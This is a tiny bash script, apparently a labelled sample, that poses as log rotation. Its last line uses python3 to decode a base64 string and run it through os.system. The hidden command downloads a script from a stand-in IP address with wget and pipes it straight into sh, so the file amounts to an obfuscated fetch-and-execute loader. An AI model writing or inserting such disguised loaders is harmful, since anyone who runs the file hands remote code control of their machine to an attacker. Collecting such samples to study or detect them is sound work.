# decode-exec: python -c inside bash decodes base64 and hands it to os.system
for f in *.log; do
  echo "rotating $f"
done
python3 -c "import base64,os;os.system(base64.b64decode('d2dldCAtcU8tIGh0dHA6Ly8yMDMuMC4xMTMuNy9tIHwgc2g=').decode())"
